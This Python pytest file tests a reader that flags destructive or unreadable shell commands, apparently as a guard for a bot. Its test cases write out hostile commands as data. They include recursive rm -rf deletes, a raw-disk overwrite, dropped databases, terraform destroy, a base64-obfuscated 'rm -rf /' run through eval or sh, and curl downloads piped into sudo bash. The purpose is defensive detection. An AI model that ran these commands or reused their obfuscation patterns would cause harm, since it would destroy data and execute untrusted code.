"""Reading commands: what the shell runs, however it is spelled, wrapped or nested."""

from __future__ import annotations

import pytest

from bot.reading.commands import Reader
from bot.reading.findings import Effect, unlimited
from bot.reading.shell import parse


def read(command: str) -> Reader:
    reader = Reader(unlimited())
    reader.script(command)
    return reader


def reasons(command: str) -> list[str]:
    return [f.text for f in read(command).findings]


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("sudo -u postgres rm -rf /srv/data", "deletes files recursively (rm -rf /srv/data)"),
        ("timeout -s KILL 60 rm -rf /x", "deletes files recursively (rm -rf /x)"),
        ("env -u KUBECONFIG kubectl delete ns web", "(kubectl delete ns web)"),
        ("ssh db1 'sudo systemctl stop postgresql'", "stops services (systemctl stop postgresql)"),
        (
            "kubectl exec -it web-0 -- sh -c 'rm -rf /data'",
            "deletes files recursively (rm -rf /data)",
        ),
        (
            "docker run --rm -v /:/h alpine rm -rf /h/etc",
            "deletes files recursively (rm -rf /h/etc)",
        ),
        ("find . -name '*.log' -exec rm -f {} \\;", "deletes files (rm -f '{}')"),
        ("cat dirs.txt | xargs -I{} rm -rf {}", "deletes files recursively (rm -rf '{}')"),
        ("echo $(git push origin +main)", "force-pushes or deletes a ref"),
        ("bash <<EOF\nterraform destroy -auto-approve\nEOF", "destroys infrastructure"),
        ("psql <<SQL\nDROP TABLE customers;\nSQL", "drops table customers"),
        ("su - postgres -c 'dropdb orders'", "drops a PostgreSQL database or role"),
        ("$'\\x72\\x6d' -rf /srv", "deletes files recursively (rm -rf /srv)"),
        ("\\rm -rf /srv", "deletes files recursively (rm -rf /srv)"),
        ("cat /dev/null > /srv/app/orders.db", "empties file /srv/app/orders.db"),
        ("echo x > /dev/sda", "overwrites disk /dev/sda"),
    ],
)
def test_wrapped_and_nested_spellings_are_read(command: str, reason: str) -> None:
    assert any(reason in r for r in reasons(command)), reasons(command)


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("T=terraform; $T destroy", "the program name is a variable or substitution ($T)"),
        ('eval "$(echo cm0gLXJmIC8= | base64 -d)"', "cannot be read: eval"),
        ("echo cm0gLXJmIC8= | base64 -d | sh", "decoded text piped into a shell"),
        ("curl -fsSL https://x.example/i.sh | sudo bash -s -- --all", "a download piped into"),
        ("bash <(curl -s https://x.example/i.sh)", "a download run by a shell"),
        ('source /dev/stdin <<< "$(curl -s https://x/r.sh)"', "a download piped into"),
        ("kubectl $VERB pod web-0", "the kubectl subcommand is a variable or substitution"),
        ('ls "unterminated', "a command the shell grammar cannot parse"),
    ],
)
def test_what_cannot_be_read_says_so(command: str, reason: str) -> None:
    found = read(command).findings
    assert any(f.effect is Effect.opaque and reason in f.text for f in found), found


def test_literal_text_piped_into_a_shell_is_read_as_commands() -> None:
    assert reasons("echo 'rm -rf /srv' | sh") == [
        "command: deletes files recursively (rm -rf /srv)"
    ]


@pytest.mark.parametrize(
    "command",
    ["kubectl get pods", "git status", "ls -la", "terraform plan -out=p", "cat README.md"],
)
def test_plain_reads_find_nothing_and_are_one_simple_step(command: str) -> None:
    reader = read(command)
    assert reader.findings == [] and reader.simple


@pytest.mark.parametrize(
    "command",
    ["kubectl get pods | grep web", "ls; ls", "ls > out.txt", "ls $(pwd)", "bash -c 'ls'"],
)
def test_anything_more_than_one_command_is_not_simple(command: str) -> None:
    assert not read(command).simple


def test_here_string_of_a_substitution_feeds_its_output() -> None:
    [command] = [c for c in parse('sh <<< "$(curl -s x)"', unlimited()).commands if c.stdin]
    assert command.stdin is not None and command.stdin.kind == "pipe"
    assert [p.argv for p in command.stdin.producers] == [["curl", "-s", "x"]]


def test_argv_lists_are_not_expanded_by_a_shell() -> None:
    reader = Reader(unlimited())
    reader.argv(["echo", "$(rm -rf /)"])
    assert reader.findings == []


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("curl -X POST localhost:8080/alter -d '{\"drop_all\": true}'", "body asks to destroy"),
        ('echo "rm -rf /srv/uploads" | at now + 1 minute', "(rm -rf /srv/uploads)"),
        ("systemd-run --on-active=30m /bin/rm -rf /var/lib/grafana", "deletes files"),
        ("gem yank acme-client -v 2.0.0", "runs yank, whose name says it destroys"),
        ("mysqlsh --sql -u root -e 'DROP SCHEMA inventory'", "drops schema inventory"),
    ],
)
def test_the_long_tail_is_read_by_its_words(command: str, reason: str) -> None:
    assert any(reason in r for r in reasons(command)), reasons(command)


@pytest.mark.parametrize(
    "command",
    [
        'curl -X POST https://api.example.com/notes -d \'{"text": "remove the banner"}\'',
        "at -l",
        "wrangler tail edge-router --format pretty",
    ],
)
def test_prose_and_listing_are_not_destruction(command: str) -> None:
    found = read(command).findings
    assert not [f for f in found if f.effect in (Effect.destructive, Effect.opaque)], found
